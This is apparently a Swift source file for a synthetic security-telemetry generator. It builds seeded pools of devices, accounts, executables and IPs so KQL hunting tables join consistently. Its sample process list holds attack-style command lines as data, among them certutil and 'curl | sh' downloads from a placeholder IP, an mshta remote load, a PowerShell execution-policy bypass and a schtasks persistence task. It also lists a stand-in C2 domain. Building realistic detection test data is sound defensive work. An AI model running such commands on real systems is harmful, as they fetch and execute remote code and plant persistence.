// EntityPools: the shared, seed-determined entities every generated table draws from, so that
// joins across tables find matches (the same DeviceId/DeviceName, account, file hash, ReportId
// and IP addresses appear in DeviceProcessEvents, DeviceNetworkEvents, SigninLogs, …).
//
// Pools depend on the seed only (never on the table), rows choose from them with a generator
// seeded by the seed and the table name (FNV-1a, stable across runs and platforms), and a
// row's entities are chosen once (RowContext) so that the columns of one row agree with each
// other: DeviceName matches DeviceId, AccountUpn matches AccountName, SHA1 matches FileName.

import KQLColumns

/// One device of the pool.
struct GenDevice {
    var id: String          // 40 hex digits (Defender machine id)
    var name: String        // FQDN, lower case
    var host: String        // short host name
    var ip: String          // private IPv4
    var mac: String
    var os: String
}

/// One account of the pool.
struct GenAccount {
    var name: String, domain: String, upn: String, objectId: String, sid: String, displayName: String
}

/// One executable of the pool (process or file).
struct GenFile {
    var name: String, folder: String, commandLine: String, sha1: String, sha256: String, md5: String,
        company: String, size: Int64
}

/// The shared pools (a pure function of the seed).
struct EntityPools {
    let devices: [GenDevice]
    let accounts: [GenAccount]
    let files: [GenFile]
    let publicIPs: [String]
    let ipv6: [String]
    let domains: [String]
    let tenantId: String
    let subscriptionId: String
    /// ReportIds are drawn from 1...reportIdRange: small, so joins on ReportId match.
    let reportIdRange = 400

    static let deviceCount = 24
    static let userNames = ["jdoe", "asmith", "mgarcia", "lchen", "pnovak", "kwilson", "rtaylor", "svc_backup",
                            "bbrown", "ekim", "admin.ops", "tnguyen"]
    static let displayNames = ["John Doe", "Alice Smith", "Maria Garcia", "Li Chen", "Petr Novak", "Kate Wilson",
                               "Robert Taylor", "Backup Service", "Bob Brown", "Eun Kim", "Ops Admin", "Thi Nguyen"]
    static let fileSpecs: [(String, String, String, String)] = [
        ("powershell.exe", #"C:\Windows\System32\WindowsPowerShell\v1.0\"#, #"powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgA"#, "Microsoft Corporation"),
        ("cmd.exe", #"C:\Windows\System32\"#, #"cmd.exe /c whoami /all"#, "Microsoft Corporation"),
        ("svchost.exe", #"C:\Windows\System32\"#, "svchost.exe -k netsvcs -p -s Schedule", "Microsoft Corporation"),
        ("rundll32.exe", #"C:\Windows\System32\"#, #"rundll32.exe C:\Users\Public\payload.dll,Start"#, "Microsoft Corporation"),
        ("chrome.exe", #"C:\Program Files\Google\Chrome\Application\"#, #""chrome.exe" --type=renderer --lang=en-US"#, "Google LLC"),
        ("outlook.exe", #"C:\Program Files\Microsoft Office\root\Office16\"#, #""OUTLOOK.EXE" /recycle"#, "Microsoft Corporation"),
        ("winword.exe", #"C:\Program Files\Microsoft Office\root\Office16\"#, #""WINWORD.EXE" /n "C:\Users\jdoe\Downloads\invoice.docm""#, "Microsoft Corporation"),
        ("certutil.exe", #"C:\Windows\System32\"#, "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe", "Microsoft Corporation"),
        ("schtasks.exe", #"C:\Windows\System32\"#, #"schtasks.exe /create /tn Updater /tr C:\ProgramData\upd.exe /sc minute"#, "Microsoft Corporation"),
        ("lsass.exe", #"C:\Windows\System32\"#, #"C:\Windows\system32\lsass.exe"#, "Microsoft Corporation"),
        ("wmic.exe", #"C:\Windows\System32\wbem\"#, "wmic.exe process call create calc.exe", "Microsoft Corporation"),
        ("mshta.exe", #"C:\Windows\System32\"#, "mshta.exe http://203.0.113.9/x.hta", "Microsoft Corporation"),
        ("explorer.exe", #"C:\Windows\"#, #"C:\Windows\Explorer.EXE"#, "Microsoft Corporation"),
        ("python.exe", #"C:\Python311\"#, "python.exe -c \"import socket\"", "Python Software Foundation"),
        ("bash", "/usr/bin/", "bash -c 'curl -s http://198.51.100.7/s.sh | sh'", ""),
        ("sshd", "/usr/sbin/", "sshd: root@pts/0", ""),
    ]
    static let domainNames = ["contoso.com", "login.microsoftonline.com", "graph.microsoft.com", "github.com",
                              "fabrikam-cdn.net", "update.example.org", "evil-c2.example.net", "outlook.office365.com"]
    static let osNames = ["Windows10", "Windows11", "WindowsServer2019", "WindowsServer2022", "Linux"]

    init(seed: UInt64) {
        var r = SplitMix64(seed: seed ^ 0x0E17_17E5)
        var devices: [GenDevice] = []
        for i in 0..<Self.deviceCount {
            let host = i % 6 == 5 ? "srv-\(String(format3: i))" : "ws-\(String(format3: i))"
            devices.append(GenDevice(id: Self.hex(&r, 40), name: "\(host).contoso.local", host: host,
                                     ip: "10.0.\(1 + i / 10).\(10 + i)", mac: Self.mac(&r),
                                     os: Self.osNames[i % Self.osNames.count]))
        }
        self.devices = devices
        var accounts: [GenAccount] = []
        for (i, n) in Self.userNames.enumerated() {
            accounts.append(GenAccount(name: n, domain: "contoso", upn: "\(n)@contoso.com", objectId: Self.guid(&r),
                                       sid: "S-1-5-21-1004336348-1177238915-682003330-\(1100 + i)",
                                       displayName: Self.displayNames[i]))
        }
        self.accounts = accounts
        files = Self.fileSpecs.map { s in
            GenFile(name: s.0, folder: s.1 + s.0, commandLine: s.2, sha1: Self.hex(&r, 40), sha256: Self.hex(&r, 64),
                    md5: Self.hex(&r, 32), company: s.3, size: Int64(20_000 + r.below(4_000_000)))
        }
        let firsts = [13, 20, 40, 52, 104, 151, 185, 198, 203]
        publicIPs = (0..<16).map { _ in "\(firsts[r.below(firsts.count)]).\(r.below(256)).\(r.below(256)).\(1 + r.below(254))" }
        ipv6 = (0..<4).map { _ in "2001:db8:\(String(r.below(65536), radix: 16)):\(String(r.below(65536), radix: 16))::\(String(1 + r.below(65535), radix: 16))" }
        domains = Self.domainNames
        tenantId = Self.guid(&r)
        subscriptionId = Self.guid(&r)
    }

    static func hex(_ r: inout SplitMix64, _ n: Int) -> String {
        String(decoding: RowGenerator.hex(&r, n), as: UTF8.self)
    }

    static func guid(_ r: inout SplitMix64) -> String {
        let h = hex(&r, 32)
        let c = Array(h)
        return String(c[0..<8]) + "-" + String(c[8..<12]) + "-4" + String(c[13..<16]) + "-a" + String(c[17..<20]) + "-" + String(c[20..<32])
    }

    static func mac(_ r: inout SplitMix64) -> String {
        let c = Array(hex(&r, 12).uppercased())
        return stride(from: 0, to: 12, by: 2).map { String(c[$0..<$0 + 2]) }.joined(separator: "-")
    }
}

extension String {
    /// Three-digit zero-padded decimal.
    init(format3 v: Int) {
        var s = String(v)
        while s.count < 3 { s = "0" + s }
        self = s
    }
}

/// The entities of the current row, chosen once per row.
struct RowContext {
    var time: Int64 = 0
    var device = 0, account = 0, file = 0, parentFile = 0, publicIP = 0, domain = 0
    var reportId: Int64 = 0
    var processId: Int64 = 0
    /// Index of the row in the file (for sequence-like columns).
    var row = 0

    /// Skewed choice in 0..<n: low indexes are more frequent (busier devices and users).
    static func skewed(_ r: inout SplitMix64, _ n: Int) -> Int {
        let u = Double(r.next() >> 11) / Double(1 << 53)
        return min(n - 1, Int(u * u * Double(n)))
    }

    mutating func next(_ r: inout SplitMix64, pools: EntityPools, end: Int64, span: Int64, row: Int) {
        self.row = row
        // Recent rows are denser (a quarter in the last hour, a quarter more in the last day), as
        // hunts mostly look back an hour or a day.
        let window: Int64
        switch r.below(4) {
        case 0: window = min(span, DateTime.ticksPerHour)
        case 1: window = min(span, DateTime.ticksPerDay)
        default: window = span
        }
        let back = Int64(r.next() % UInt64(max(1, window)))
        time = end - back
        device = Self.skewed(&r, pools.devices.count)
        account = Self.skewed(&r, pools.accounts.count)
        file = r.below(pools.files.count)
        parentFile = r.below(pools.files.count)
        publicIP = r.below(pools.publicIPs.count)
        domain = r.below(pools.domains.count)
        reportId = Int64(1 + r.below(pools.reportIdRange))
        processId = Int64(4 * (1 + r.below(8_000)))
    }
}
